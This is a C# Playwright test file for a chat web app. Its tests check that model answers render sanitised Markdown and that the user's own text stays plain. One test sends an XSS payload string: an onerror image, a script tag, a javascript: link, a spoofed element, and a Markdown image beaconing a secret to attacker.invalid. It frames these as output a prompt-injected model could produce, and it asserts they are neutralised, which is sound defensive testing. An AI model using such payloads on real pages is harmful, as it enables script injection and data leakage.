using System.Text.RegularExpressions;
using Microsoft.Playwright;
using TaskFlow.Tests.Fakes;
using TaskFlow.Tests.Support;

namespace TaskFlow.Tests.Browser;

/// <summary>How answers are rendered: Markdown from the model, sanitised; what the person typed, as plain text.</summary>
[Collection(BrowserCollection.Name)]
public sealed class ChatPageMarkdownTests(TaskFlowStack stack)
{
    [Fact]
    public async Task Answers_render_markdown_while_the_users_own_text_stays_plain()
    {
        await using var browser = await ChatPageDriver.SignedInAsync(stack);
        var page = browser.Page;
        const string prompt = "**bold** and `code`";
        await ChatPageDriver.SendAsync(page, prompt);

        var answer = ChatPageDriver.FinishedAnswers(page).Last;
        await Assertions.Expect(answer.Locator(".body strong")).ToHaveTextAsync("bold", ChatPageDriver.Streaming);
        await Assertions.Expect(answer.Locator(".body code")).ToHaveTextAsync("code");
        await Assertions.Expect(answer.Locator(".body")).ToHaveTextAsync("You said: bold and code. That is all from the fake model.");
        await Assertions.Expect(answer.Locator("time")).ToHaveAttributeAsync("datetime", new Regex(@"^\d{4}-\d\d-\d\dT"));

        var mine = page.Locator(".message.user").Last;
        await Assertions.Expect(mine.Locator(".body")).ToHaveTextAsync(prompt);
        Assert.Equal(0, await mine.Locator("strong, code").CountAsync());
        await browser.ScreenshotAsync("markdown-rendered");
    }

    [Fact]
    public async Task Hostile_html_in_an_answer_is_neutralised()
    {
        await using var browser = await ChatPageDriver.SignedInAsync(stack);
        var page = browser.Page;
        // The fake model repeats the message, so this is exactly what a hostile or prompt-injected model could send.
        const string prompt = "<img src=x onerror=\"window.__pwned=1\"> <script>window.__pwned=2</script> "
            + "<a href=\"javascript:window.__pwned=3\">click me</a> <p id=\"send\" class=\"message user\">spoofed</p> ![leak](https://attacker.invalid/x.png?secret=1)";
        await ChatPageDriver.SendAsync(page, prompt);

        var answer = ChatPageDriver.FinishedAnswers(page).Last;
        await Assertions.Expect(answer.Locator(".body")).ToContainTextAsync("That is all from the fake model.", new() { Timeout = 30_000 });
        await answer.Locator("a", new() { HasText = "click me" }).ClickAsync(); // must do nothing
        await page.WaitForTimeoutAsync(300);

        Assert.Null(await page.EvaluateAsync<int?>("window.__pwned"));
        Assert.Equal(0, await page.Locator(".messages img, .messages script, .messages [onerror], .messages a[href^='javascript']").CountAsync());
        // No element of the answer can pose as the page's own: no ids, no classes.
        Assert.Equal(0, await answer.Locator(".body [id], .body [class]:not(code)").CountAsync());
        Assert.True(await page.EvaluateAsync<bool>("document.getElementById('send').closest('#composer') !== null"));
        await Assertions.Expect(page.Locator(".message.user")).ToHaveCountAsync(1);
        // A model's image is never fetched; it becomes a link the person may choose to open.
        await Assertions.Expect(answer.Locator("a[href^='https://attacker.invalid']")).ToHaveAttributeAsync("rel", new Regex("noopener"));
        await Assertions.Expect(page.Locator(".message.user .body")).ToHaveTextAsync(prompt);

        // The page still works afterwards.
        await ChatPageDriver.SendAsync(page, "still fine");
        await Assertions.Expect(ChatPageDriver.FinishedAnswers(page)).ToHaveCountAsync(2, new() { Timeout = 30_000 });
        await browser.ScreenshotAsync("hostile-html");
    }

    [Fact]
    public async Task Code_blocks_are_readable_with_a_language_label_and_a_copy_button()
    {
        await using var browser = await ChatPageDriver.SignedInAsync(stack);
        var page = browser.Page;
        await page.GetByTestId("input").FillAsync("Here:\n\n```csharp\nvar answer = 42;\nConsole.WriteLine(answer);\n```\n\nand a table\n\n| a | b |\n|---|---|\n| 1 | 2 |");
        await page.GetByTestId("send").ClickAsync();

        var answer = ChatPageDriver.FinishedAnswers(page).Last;
        var block = answer.Locator(".code-block");
        await Assertions.Expect(block.Locator("pre code")).ToHaveTextAsync("var answer = 42;\nConsole.WriteLine(answer);", ChatPageDriver.Streaming);
        await Assertions.Expect(block.Locator(".code-bar span")).ToHaveTextAsync("csharp");
        await Assertions.Expect(block.GetByRole(AriaRole.Button, new() { Name = "Copy csharp to the clipboard" })).ToBeVisibleAsync();
        await Assertions.Expect(answer.Locator("table td")).ToHaveTextAsync(["1", "2"]);
        var background = await block.Locator("pre").EvaluateAsync<string>("pre => getComputedStyle(pre).backgroundColor");
        Assert.NotEqual("rgba(0, 0, 0, 0)", background);
        await browser.ScreenshotAsync("code-block");
    }
}

/// <summary>
/// Drives the chat page like a person, and watches its WebSocket from inside the page (an init script wraps
/// <c>WebSocket</c>): the frames it sent, the URLs it opened, and a way to drop or block the connection.
/// </summary>
internal static class ChatPageDriver
{
    public static readonly LocatorAssertionsToHaveTextOptions Streaming = new() { Timeout = 30_000 };

    private const string SocketSpy = """
        (() => {
          const Native = window.WebSocket;
          window.__sockets = [];
          window.__sent = [];
          window.__received = [];
          window.__blockSockets = false;
          class SpiedSocket extends Native {
            constructor(url, protocols) {
              // Blocked: the page's reconnects go nowhere, as if the network were down.
              super(window.__blockSockets ? String(url).replace(/\/\/[^/]+/, "//127.0.0.1:9") : url, protocols);
              window.__sockets.push(this);
              this.addEventListener("message", (e) => { try { window.__received.push(JSON.parse(e.data)); } catch {} });
            }
            send(data) {
              try { window.__sent.push(JSON.parse(data)); } catch {}
              return super.send(data);
            }
          }
          window.WebSocket = SpiedSocket;
        })();
        """;

    /// <summary>A new user, registered through the real pages, on the chat page with its socket open.</summary>
    public static async Task<BrowserSession> SignedInAsync(TaskFlowStack stack)
    {
        var browser = await BrowserSession.StartAsync();
        await browser.Page.AddInitScriptAsync(SocketSpy);
        await browser.Page.GotoAsync(stack.Gateway.ToString());
        await BrowserAccounts.RegisterAsync(browser.Page);
        await Assertions.Expect(browser.Page.GetByTestId("status")).ToHaveTextAsync("Connected");
        return browser;
    }

    public static async Task SendAsync(IPage page, string text)
    {
        await page.GetByTestId("input").FillAsync(text);
        await page.GetByTestId("input").PressAsync("Enter");
    }

    public static ILocator Answers(IPage page) => page.Locator(".message.assistant[data-kind=answer]");

    public static ILocator FinishedAnswers(IPage page) => page.Locator(".message.assistant[data-kind=answer][data-done=true]");

    public static string Expected(string prompt) => string.Concat(FakeModelServer.ReplyTo(prompt));

    public static Task<string[]> SentTypesAsync(IPage page) => page.EvaluateAsync<string[]>("window.__sent.map(e => e.type)");

    public static Task<string[]> SocketUrlsAsync(IPage page) => page.EvaluateAsync<string[]>("window.__sockets.map(s => s.url)");

    public static Task<string[]> ReceivedTypesAsync(IPage page) => page.EvaluateAsync<string[]>("window.__received.map(e => e.type)");

    /// <summary>Drops the page's current socket, as a network hiccup would.</summary>
    public static Task DropSocketAsync(IPage page) => page.EvaluateAsync("window.__sockets.at(-1).close()");

    public static Task BlockSocketsAsync(IPage page, bool blocked) => page.EvaluateAsync($"window.__blockSockets = {(blocked ? "true" : "false")}");

    public static async Task<string> ConversationIdAsync(IPage page)
    {
        await Assertions.Expect(page).ToHaveURLAsync(new Regex(@"\?c=[0-9a-f-]{36}"), new() { Timeout = 15_000 });
        return Regex.Match(page.Url, @"\?c=([0-9a-f-]{36})").Groups[1].Value;
    }
}
